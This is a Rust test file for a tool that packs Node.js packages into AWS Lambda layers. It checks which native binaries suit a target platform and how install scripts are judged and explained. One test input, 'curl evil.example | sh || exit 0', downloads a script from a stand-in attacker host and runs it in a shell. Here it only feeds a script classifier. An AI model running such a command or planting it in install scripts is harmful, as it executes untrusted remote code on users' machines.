//! Real packages in small: what is foreign, what needed a script.

use std::collections::BTreeMap;

use layerpress_press::{Binary, Libc, Machine};
use layerpress_target::{Arch, Target};
use layerpress_tree::LayerPath;

use super::rows::ROWS;
use super::scripts::{Purpose, purpose};
use super::*;
use crate::tarball::{Bundled, Facts, PackageTree};

fn target(runtime: &str, arch: Arch) -> Target {
    Target {
        runtime: runtime.parse().expect("exists"),
        arch,
    }
}

fn x86_64() -> Target {
    target("nodejs22.x", Arch::X86_64)
}

fn path(text: &str) -> LayerPath {
    LayerPath::new(text).expect("valid")
}

const GLIBC: Binary = elf(Machine::X86_64, Libc::Glibc);

const fn elf(machine: Machine, libc: Libc) -> Binary {
    Binary::Elf { machine, libc }
}

/// A package with a manifest and files; those of a binary are machine code.
fn package(manifest: &str, binaries: &[(&str, Binary)]) -> PackageTree {
    let binaries = binaries.iter().map(|(name, binary)| (path(name), *binary));
    PackageTree {
        package: Facts::parse(manifest.as_bytes(), false).expect("JSON"),
        binaries: binaries.collect(),
        ..PackageTree::default()
    }
}

/// What is foreign of `files`, a line each.
fn foreign(files: &[(&str, Option<Binary>)], target: Target) -> String {
    let paths: Vec<LayerPath> = files.iter().map(|(name, _)| path(name)).collect();
    let binaries: BTreeMap<_, _> = files
        .iter()
        .filter_map(|(name, binary)| Some((path(name), (*binary)?)))
        .collect();
    foreign_files(&paths.iter().collect::<Vec<_>>(), &binaries, target)
        .iter()
        .map(|file| format!("{}: {}", file.path, file.reason))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn prebuilds_of_other_platforms_are_foreign() {
    let files = [
        (
            "build/Release/oracledb-linux-arm64.node",
            Some(elf(Machine::Aarch64, Libc::Glibc)),
        ),
        ("build/Release/oracledb-linux-x64.node", Some(GLIBC)),
        (
            "prebuilds/android-arm64/a.armv8.node",
            Some(elf(Machine::Aarch64, Libc::Foreign)),
        ),
        ("prebuilds/darwin-x64+arm64/a.node", Some(Binary::MachO)),
        (
            "prebuilds/freebsd-x64/a.glibc.node",
            Some(elf(Machine::X86_64, Libc::Foreign)),
        ),
        (
            "prebuilds/linux-arm/a.armv7.node",
            Some(elf(Machine::Other, Libc::Glibc)),
        ),
        (
            "prebuilds/linux-arm64/a.armv8.node",
            Some(elf(Machine::Aarch64, Libc::Glibc)),
        ),
        (
            "prebuilds/linux-x64/a.musl.node",
            Some(elf(Machine::X86_64, Libc::Musl)),
        ),
        ("prebuilds/linux-x64/a.node", Some(GLIBC)),
        (
            "prebuilds/linux-x64/static",
            Some(elf(Machine::X86_64, Libc::None)),
        ),
        ("prebuilds/win32-x64/a.node", Some(Binary::Pe)),
        ("prebuilds/win32-x64/readme.txt", None),
    ];
    insta::assert_snapshot!(foreign(&files, x86_64()), @r"
    build/Release/oracledb-linux-arm64.node: for another processor
    prebuilds/android-arm64/a.armv8.node: for another Unix than Linux
    prebuilds/darwin-x64+arm64/a.node: for macOS
    prebuilds/freebsd-x64/a.glibc.node: for another Unix than Linux
    prebuilds/linux-arm/a.armv7.node: for another processor
    prebuilds/linux-arm64/a.armv8.node: for another processor
    prebuilds/linux-x64/a.musl.node: for the C library musl
    prebuilds/win32-x64/a.node: for Windows
    prebuilds/win32-x64/readme.txt: in the folder of another platform
    ");
    insta::assert_snapshot!(foreign(&files, target("nodejs20.x", Arch::Arm64)), @r"
    build/Release/oracledb-linux-x64.node: for another processor
    prebuilds/android-arm64/a.armv8.node: for another Unix than Linux
    prebuilds/darwin-x64+arm64/a.node: for macOS
    prebuilds/freebsd-x64/a.glibc.node: for another Unix than Linux
    prebuilds/linux-arm/a.armv7.node: for another processor
    prebuilds/linux-x64/a.musl.node: for another processor
    prebuilds/linux-x64/a.node: for another processor
    prebuilds/linux-x64/static: for another processor
    prebuilds/win32-x64/a.node: for Windows
    prebuilds/win32-x64/readme.txt: in the folder of another platform
    ");
}

/// The paths are those of the packages that are named.
#[test]
fn files_for_other_versions_of_node_are_foreign() {
    let of = |files: &[&str], runtime: &str| {
        let files: Vec<_> = files.iter().map(|name| (*name, Some(GLIBC))).collect();
        let foreign = foreign(&files, target(runtime, Arch::X86_64));
        let names = foreign
            .lines()
            .filter_map(|line| line.strip_suffix(": for another version of Node.js"));
        names.collect::<Vec<_>>().join(" ")
    };
    // isolated-vm, @datadog/pprof, @datadog/native-iast-taint-tracking, @sentry/node-cpu-profiler.
    for [twenty, twenty_two] in [
        [
            "prebuilds/linux-x64/a.abi115.glibc.node",
            "prebuilds/linux-x64/a.abi127.glibc.node",
        ],
        [
            "prebuilds/linux-x64/a.node.abi115.node",
            "prebuilds/linux-x64/a.node.abi127.node",
        ],
        [
            "prebuilds/linuxglibc-x64/node-115.node",
            "prebuilds/linuxglibc-x64/node-127.node",
        ],
        [
            "lib/a-linux-x64-glibc-115.node",
            "lib/a-linux-x64-glibc-127.node",
        ],
        // zeromq, deasync, node-pre-gyp.
        [
            "build/linux/x64/node/glibc-115-Release/a.node",
            "build/linux/x64/node/glibc-127-Release/a.node",
        ],
        [
            "bin/linux-x64-node-20/a.node",
            "bin/linux-x64-node-22/a.node",
        ],
        [
            "lib/binding/node-v115-linux-x64-glibc/a.node",
            "lib/binding/node-v127-linux-x64-glibc/a.node",
        ],
    ] {
        let both = [twenty, twenty_two];
        assert_eq!(of(&both, "nodejs20.x"), twenty_two);
        assert_eq!(of(&both, "nodejs22.x"), twenty);
        // Where the target's own is not there, nobody knows what the number is.
        assert_eq!(of(&both, "nodejs24.x"), "");
    }
    let deasync = [
        "bin/linux-x64-node-0.10/a.node",
        "bin/linux-x64-node-22/a.node",
    ];
    assert_eq!(of(&deasync, "nodejs22.x"), deasync[0]);
    // msgpackr-extract: what has no tag of an interface is for all.
    let msgpackr = ["node.abi115.glibc.node", "node.napi.glibc.node"];
    assert_eq!(of(&msgpackr, "nodejs22.x"), msgpackr[0]);
    assert_eq!(of(&msgpackr, "nodejs20.x"), "");
    // ref-napi.
    let electron = [
        "prebuilds/linux-x64/electron.napi.node",
        "prebuilds/linux-x64/node.napi.node",
    ];
    assert_eq!(of(&electron, "nodejs22.x"), electron[0]);
}

#[test]
fn numbers_that_are_no_versions_of_node_stay() {
    let files = [
        "build/Release/oracledb-26.0.0-linux-x64.node",
        "build/Release/oracledb-127.0.0-linux-x64.node",
        "bin/napi-v3/linux/x64/a.node",
        "bin/napi-v6/linux/x64/a.node",
        "lib/x64.node",
        "lib/x127.node",
        "lib/part-64.js",
        "lib/part-127.js",
    ];
    let files = files.map(|name| (name, Some(GLIBC)));
    assert_eq!(foreign(&files, x86_64()), "");
}

#[test]
fn what_may_be_needed_stays() {
    let files = [
        ("a.wasm", None),
        ("prebuilds/index.js", None),
        ("prebuilds/linux-x64.node", Some(GLIBC)),
        ("prebuilds/my-words/a.json", None),
        ("templates/prebuilds-win32-x64/a.txt", None),
        ("tool.dll", Some(Binary::Managed)),
        ("tracer.o", Some(elf(Machine::Bpf, Libc::None))),
    ];
    assert_eq!(foreign(&files, x86_64()), "");
    let musl = [
        (
            "lib/libc.musl-x86_64.so.1",
            Some(elf(Machine::X86_64, Libc::None)),
        ),
        ("lib/node.musl.node", Some(elf(Machine::X86_64, Libc::Musl))),
    ];
    assert_eq!(foreign(&musl, x86_64()), "", "it brings its own musl along");
    assert_eq!(
        foreign(&musl[1..], x86_64()),
        "lib/node.musl.node: for the C library musl"
    );
}

#[test]
fn of_prismas_engines_the_targets_own_stays() {
    let engine = |platform: &str| {
        format!("nodejs/node_modules/.prisma/client/libquery_engine-{platform}.so.node")
    };
    let names = [
        "debian-openssl-3.0.x",
        "linux-arm64-openssl-3.0.x",
        "rhel-openssl-1.0.x",
        "rhel-openssl-3.0.x",
    ]
    .map(engine);
    let mut files: Vec<(&str, Option<Binary>)> = names
        .iter()
        .map(|name| (name.as_str(), Some(GLIBC)))
        .collect();
    files[1].1 = Some(elf(Machine::Aarch64, Libc::Glibc));
    insta::assert_snapshot!(foreign(&files, x86_64()), @r"
    nodejs/node_modules/.prisma/client/libquery_engine-debian-openssl-3.0.x.so.node: an engine for another Linux
    nodejs/node_modules/.prisma/client/libquery_engine-linux-arm64-openssl-3.0.x.so.node: for another processor
    nodejs/node_modules/.prisma/client/libquery_engine-rhel-openssl-1.0.x.so.node: an engine for another Linux
    ");
    // Node.js 18 runs on Amazon Linux 2.
    insta::assert_snapshot!(foreign(&files, target("nodejs18.x", Arch::X86_64)), @r"
    nodejs/node_modules/.prisma/client/libquery_engine-debian-openssl-3.0.x.so.node: an engine for another Linux
    nodejs/node_modules/.prisma/client/libquery_engine-linux-arm64-openssl-3.0.x.so.node: for another processor
    nodejs/node_modules/.prisma/client/libquery_engine-rhel-openssl-3.0.x.so.node: an engine for another Linux
    ");
    // Without one that fits, the layer is in trouble anyway.
    assert_eq!(foreign(&files[..1], x86_64()), "");
}

/// What is said of packages that are in a layer alone, each with its own manifest.
fn judged(packages: &[(&str, &[(&str, Binary)])]) -> String {
    judged_in(packages, &[], x86_64())
}

fn judged_in(packages: &[(&str, &[(&str, Binary)])], own: &[&str], target: Target) -> String {
    let trees: Vec<PackageTree> = packages
        .iter()
        .map(|(manifest, binaries)| package(manifest, binaries))
        .collect();
    let installed: Vec<Installed<'_>> = trees
        .iter()
        .map(|tree| Installed {
            folder: tree.package.name.as_deref().expect("named"),
            tree,
        })
        .collect();
    let own: Vec<LayerPath> = own.iter().map(|name| path(name)).collect();
    shown(&judge(&installed, &own, target))
}

fn shown(judgement: &Judgement) -> String {
    let troubles = judgement
        .troubles
        .iter()
        .map(|it| format!("{:?} {it}\n  hint: {}", it.severity, it.remedy));
    let skipped = judgement
        .skipped
        .iter()
        .map(|it| format!("skipped {}@{}: {}", it.name, it.version, it.reason));
    troubles.chain(skipped).collect::<Vec<_>>().join("\n")
}

#[test]
fn packages_that_carry_their_native_part_need_no_script() {
    let judged = judged(&[
        (
            r#"{"name":"bcrypt","version":"6.0.0","scripts":{"install":"node-gyp-build"}}"#,
            &[("prebuilds/linux-x64/bcrypt.glibc.node", GLIBC)],
        ),
        (
            r#"{"name":"argon2","version":"0.45.1","scripts":{"install":"cross-env A=1 node-gyp-build"}}"#,
            &[("prebuilds/linux-x64/argon2.glibc.node", GLIBC)],
        ),
        (
            r#"{"name":"aws-crt","version":"1.33.2","scripts":{"install":"node ./scripts/install.js"}}"#,
            &[("dist/bin/linux-x64-glibc/aws-crt-nodejs.node", GLIBC)],
        ),
        (
            r#"{"name":"esbuild","version":"0.28.2","scripts":{"postinstall":"node install.js"},
            "optionalDependencies":{"@esbuild/linux-x64":"0.28.2","@esbuild/win32-x64":"0.28.2"}}"#,
            &[],
        ),
        (
            r#"{"name":"@esbuild/linux-x64","version":"0.28.2","os":["linux"],"cpu":["x64"]}"#,
            &[("bin/esbuild", elf(Machine::X86_64, Libc::None))],
        ),
        (
            r#"{"name":"@swc/core","version":"1.16.22","scripts":{"postinstall":"node postinstall.js"},
            "optionalDependencies":{"@swc/core-linux-x64-gnu":"1","@swc/core-linux-x64-musl":"1"}}"#,
            &[],
        ),
        (
            r#"{"name":"@swc/core-linux-x64-gnu","version":"1.16.22","os":["linux"],"cpu":["x64"]}"#,
            &[("swc.linux-x64-gnu.node", GLIBC)],
        ),
        (
            r#"{"name":"sharp","version":"0.35.5","optionalDependencies":{"@img/sharp-linux-x64":"1"}}"#,
            &[],
        ),
        (
            r#"{"name":"@img/sharp-linux-x64","version":"0.35.5","os":["linux"],"cpu":["x64"]}"#,
            &[("lib/sharp-linux-x64.node", GLIBC)],
        ),
    ]);
    insta::assert_snapshot!(judged, @r"
    skipped @swc/core@1.16.22: its native part is there
    skipped argon2@0.45.1: its native part is there
    skipped aws-crt@1.33.2: its native part is there
    skipped bcrypt@6.0.0: its native part is there
    skipped esbuild@0.28.2: its native part is there
    ");
}

#[test]
fn packages_whose_native_part_is_not_there_are_broken() {
    let judged = judged(&[
        (
            r#"{"name":"better-sqlite3","version":"11.10.0",
            "scripts":{"install":"prebuild-install || node-gyp rebuild --release"}}"#,
            &[],
        ),
        (
            r#"{"name":"sqlite3","version":"5.1.7","scripts":{"install":"prebuild-install -r napi || node-gyp rebuild"}}"#,
            &[],
        ),
        (
            r#"{"name":"canvas","version":"3.2.3","scripts":{"install":"prebuild-install -r napi || node-gyp rebuild"}}"#,
            &[],
        ),
        (
            r#"{"name":"bcrypt","version":"5.1.1","scripts":{"install":"node-pre-gyp install --fallback-to-build"}}"#,
            // For another processor and for another Node.js.
            &[
                ("lib/binding/a.node", elf(Machine::Aarch64, Libc::Glibc)),
                ("lib/node-v93-linux-x64/a.node", GLIBC),
            ],
        ),
        (
            r#"{"name":"puppeteer","version":"24.43.1","scripts":{"postinstall":"node install.mjs"}}"#,
            &[],
        ),
        (
            r#"{"name":"sharp","version":"0.33.5","scripts":{"install":"node install/check"},
            "optionalDependencies":{"@img/sharp-linux-x64":"1","@img/sharp-darwin-arm64":"1"}}"#,
            &[],
        ),
    ]);
    insta::assert_snapshot!(judged, @r"
    Broken `bcrypt@5.1.1`: its native part for Linux on x86_64 comes by an install script, and no install script is run
      hint: take `bcrypt` 6 or later, whose tarball has it for every platform; or have what its authors built downloaded, with `--prebuilt bcrypt`; or install it on Amazon Linux and put its folder below `nodejs/node_modules` of a layer folder, whose machine code is taken
    Broken `better-sqlite3@11.10.0`: its native part for Linux on x86_64 comes by an install script, and no install script is run
      hint: take `better-sqlite3` 13 or later with Node.js 22 or later: its tarball has it for every platform; or have what its authors built downloaded, with `--prebuilt better-sqlite3`; or install it on Amazon Linux and put its folder below `nodejs/node_modules` of a layer folder, whose machine code is taken
    Broken `canvas@3.2.3`: its native part for Linux on x86_64 comes by an install script, and no install script is run
      hint: use `@napi-rs/canvas`, which has it in a package for each platform; or have what its authors built downloaded, with `--prebuilt canvas`; or install it on Amazon Linux and put its folder below `nodejs/node_modules` of a layer folder, whose machine code is taken
    Broken `puppeteer@24.43.1`: it works with a browser that its install script downloads, and no install script is run
      hint: use `puppeteer-core` with `@sparticuz/chromium`, a browser made for Lambda
    Broken `sharp@0.33.5`: none of its optional dependencies for Linux on x86_64 is there
      hint: `@img/sharp-linux-x64` should be there: take `omit=optional` out of npm's settings, or remove a lockfile that was made for another platform only and lock again; where the registry has none of that version, choose another version of `sharp`
    Broken `sqlite3@5.1.7`: its native part for Linux on x86_64 comes by an install script, and no install script is run
      hint: with Node.js 22.13 or later, use `node:sqlite`, or `better-sqlite3` 13 or later; or have what its authors built downloaded, with `--prebuilt sqlite3`; or install it on Amazon Linux and put its folder below `nodejs/node_modules` of a layer folder, whose machine code is taken
    ");
}

#[test]
fn other_scripts_are_listed_or_passed_over() {
    let judged = judged(&[
        (
            r#"{"name":"heapdump","version":"0.3.15","scripts":{"install":"node-gyp rebuild"}}"#,
            &[],
        ),
        (
            r#"{"name":"ngrok","version":"4.3.3","scripts":{"postinstall":"node ./postinstall.js"}}"#,
            &[],
        ),
        (
            r#"{"name":"rollup","version":"4.0.0","optionalDependencies":{"@rollup/rollup-linux-x64-gnu":"1","@rollup/rollup-linux-x64-musl":"1"}}"#,
            &[],
        ),
        (
            r#"{"name":"with-wasm","version":"1.0.0","optionalDependencies":{"@x/linux-x64":"1","@x/wasm32":"1"}}"#,
            &[],
        ),
        (r#"{"name":"@x/wasm32","version":"1.0.0"}"#, &[]),
        (
            r#"{"name":"core-js","version":"3.51.0","scripts":{"postinstall":"node -e \"try{require('./postinstall')}catch(e){}\""}}"#,
            &[],
        ),
        (
            r#"{"name":"bigint-buffer","version":"1.1.5","scripts":{"install":"npm run rebuild || echo \"no bindings\""}}"#,
            &[],
        ),
        (
            r#"{"name":"@firebase/util","version":"1.15.3","scripts":{"postinstall":"node ./postinstall.js"}}"#,
            &[],
        ),
        (
            r#"{"name":"msgpackr-extract","version":"3.0.7","scripts":{"install":"node-gyp-build-optional-packages"}}"#,
            &[],
        ),
        (r#"{"name":"no-scripts","version":"1.0.0"}"#, &[]),
    ]);
    insta::assert_snapshot!(judged, @r"
    Doubtful `heapdump@0.3.15`: its native part for Linux on x86_64 would be built or downloaded by `node-gyp rebuild`, which is not run
      hint: look for a version or a package that carries it; or install it on Amazon Linux and put its folder below `nodejs/node_modules` of a layer folder, whose machine code is taken
    Doubtful `ngrok@4.3.3`: its `postinstall` script `node ./postinstall.js` is not run
      hint: see whether it works without
    Doubtful `rollup@4.0.0`: none of its optional dependencies for Linux on x86_64 is there
      hint: `@rollup/rollup-linux-x64-gnu` should be there: take `omit=optional` out of npm's settings, or remove a lockfile that was made for another platform only and lock again; where the registry has none of that version, choose another version of `rollup`
    skipped @firebase/util@1.15.3: writes down the settings in `FIREBASE_WEBAPP_CONFIG`, if there are any
    skipped bigint-buffer@1.1.5: prints, checks, or may fail
    skipped core-js@3.51.0: prints a notice
    skipped msgpackr-extract@3.0.7: builds what is done in JavaScript without it
    ");
}

#[test]
fn bundled_packages_are_judged_by_their_own_files() {
    let mut outer = package(
        r#"{"name":"outer","version":"1.0.0"}"#,
        &[("node_modules/good/a.node", GLIBC), ("a.node", GLIBC)],
    );
    for name in ["good", "bad"] {
        let manifest = format!(
            r#"{{"name":"{name}","version":"1.0.0","scripts":{{"install":"node-gyp rebuild"}}}}"#
        );
        outer.bundled.push(Bundled {
            location: format!("node_modules/{name}"),
            package: Facts::parse(manifest.as_bytes(), false).expect("JSON"),
        });
    }
    let installed = Installed {
        folder: "outer",
        tree: &outer,
    };
    insta::assert_snapshot!(shown(&judge(&[installed], &[], x86_64())), @r"
    Doubtful `bad@1.0.0`: its native part for Linux on x86_64 would be built or downloaded by `node-gyp rebuild`, which is not run
      hint: look for a version or a package that carries it; or install it on Amazon Linux and put its folder below `nodejs/node_modules` of a layer folder, whose machine code is taken
    skipped good@1.0.0: its native part is there
    ");
}

#[test]
fn prisma_needs_its_generated_client() {
    let client = |version: &str| {
        format!(
            r#"{{"name":"@prisma/client","version":"{version}","scripts":{{"postinstall":"node x"}}}}"#
        )
    };
    let judged = |version: &str, own: &[&str]| judged_in(&[(&client(version), &[])], own, x86_64());
    let generated = "nodejs/node_modules/.prisma/client/index.js";
    let debian = "nodejs/node_modules/.prisma/client/libquery_engine-debian-openssl-3.0.x.so.node";
    let rhel = "nodejs/node_modules/.prisma/client/libquery_engine-rhel-openssl-3.0.x.so.node";
    insta::assert_snapshot!(judged("6.19.3", &["nodejs/node_modules/other/index.js"]), @r"
    Broken `@prisma/client@6.19.3`: its client is generated from the project's schema, and the layer has none
      hint: run `prisma generate` and copy `node_modules/.prisma` to `layer/nodejs/node_modules/.prisma`
    ");
    insta::assert_snapshot!(judged("6.19.3", &[generated, debian]), @r#"
    Broken `@prisma/client@6.19.3`: the generated client has no engine for Linux on x86_64
      hint: add `binaryTargets = ["native", "rhel-openssl-3.0.x"]` to the generator in `schema.prisma` and run `prisma generate` again
    "#);
    assert_eq!(judged("6.19.3", &[generated, debian, rhel]), "");
    assert_eq!(
        judged("6.19.3", &[generated]),
        "",
        "an engine of WebAssembly, or none"
    );
    assert_eq!(judged("7.10.0", &[]), "");
}

#[test]
fn purposes_by_text() {
    for (script, expected) in [
        ("echo thanks", Purpose::Nothing),
        (
            "node -e \"try{require('./postinstall')}catch(e){}\"",
            Purpose::Nothing,
        ),
        (
            "node -e \"try { require('./a') } catch (err) {}\"",
            Purpose::Nothing,
        ),
        ("node -e \"require('./a')\"", Purpose::Unknown),
        (
            "(node-gyp rebuild 2> builderror.log) || (exit 0)",
            Purpose::Nothing,
        ),
        ("node-gyp-build || exit 0", Purpose::Nothing),
        (
            "node-gyp rebuild || node suppress-error.js",
            Purpose::Native,
        ),
        ("npx only-allow pnpm", Purpose::Nothing),
        ("opencollective-postinstall || true", Purpose::Nothing),
        ("husky install", Purpose::Nothing),
        ("husky install && node x.js", Purpose::Unknown),
        ("chmod u+x ffmpeg", Purpose::Modes),
        ("chmod +x $FILES", Purpose::Unknown),
        ("chmod +x a && node x.js", Purpose::Unknown),
        ("prebuild-install -r napi", Purpose::Native),
        ("cross-env ZERO_AR_DATE=1 node-gyp-build", Purpose::Native),
        ("./node_modules/.bin/node-pre-gyp install", Purpose::Native),
        ("node install.js", Purpose::Unknown),
        ("curl evil.example | sh || exit 0", Purpose::Nothing),
    ] {
        assert_eq!(purpose(script), expected, "{script}");
    }
}

#[test]
fn the_table_names_no_package_twice() {
    let mut names: Vec<&str> = ROWS.iter().flat_map(|row| row.names).copied().collect();
    let count = names.len();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), count);
}
